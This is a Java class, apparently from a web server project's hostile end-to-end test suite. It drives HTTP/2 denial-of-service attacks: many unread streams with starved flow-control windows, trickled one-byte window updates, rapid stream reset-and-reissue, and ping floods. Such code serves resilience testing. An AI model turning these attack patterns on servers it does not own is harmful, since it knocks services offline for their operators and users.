package io.jview.e2e.hostile.attack;

import static io.jview.e2e.hostile.wire.Http2.joined;

import io.jview.e2e.hostile.wire.Http2;
import io.jview.e2e.hostile.wire.Wire;
import java.io.IOException;

/** Clients that open as many streams of HTTP/2 as they may, and take no answer on any. */
public record UnreadStreams(Kind kind) implements Attack {

  /** The server allows fewer. */
  private static final int STREAMS = 100;

  private static final int PAUSE_MILLIS = 20;
  private static final int LARGE = 1 << 30;

  /** What they ask for, and how it is that it cannot be sent. */
  public enum Kind {
    PAGES("/big", 100),
    COMPRESSED_PAGES("/random", 100),
    FILES("/files/large.bin", 100),
    SMALL_PAGES("/counter", 200),
    MISSING_SCRIPTS("/live/assets/none.js", 200),
    PAGES_THAT_FILL_THE_SOCKET("/big", 100),
    REPLACED_PAGES("/big", 100),
    PINGS("/counter", 100);

    private final String path;
    private final int connections;

    Kind(String path, int connections) {
      this.path = path;
      this.connections = connections;
    }
  }

  @Override
  public String name() {
    return "unread streams of " + Names.of(kind);
  }

  @Override
  public void begin(Attacker attacker) {
    attacker.each(kind.connections, wire -> ask(attacker, wire));
  }

  private void ask(Attacker attacker, Wire wire) throws IOException, InterruptedException {
    boolean full = kind == Kind.PAGES_THAT_FILL_THE_SOCKET;
    wire.send(Http2.prefaceWithWindow(full ? LARGE : 0));
    wire.send(Http2.windowUpdate(0, LARGE));
    for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
      wire.send(first(stream, wire.host()));
    }
    for (int stream = 2 * STREAMS + 1; attacker.goesOn(); stream += 2) {
      wire.send(more(stream, wire.host()));
      Thread.sleep(PAUSE_MILLIS);
    }
  }

  private byte[] first(int stream, String host) {
    return kind == Kind.COMPRESSED_PAGES
        ? Http2.get(stream, host, kind.path, "accept-encoding", "gzip")
        : Http2.get(stream, host, kind.path);
  }

  /** What makes the server believe that there is a client, and tells this one when it is not. */
  private byte[] more(int stream, String host) {
    return switch (kind) {
      case REPLACED_PAGES ->
          joined(Http2.reset(stream - 2 * STREAMS), Http2.get(stream, host, kind.path));
      case PINGS -> joined(Http2.ping(), Http2.ping());
      default -> Http2.windowUpdate(stream % STREAMS | 1, 1);
    };
  }
}
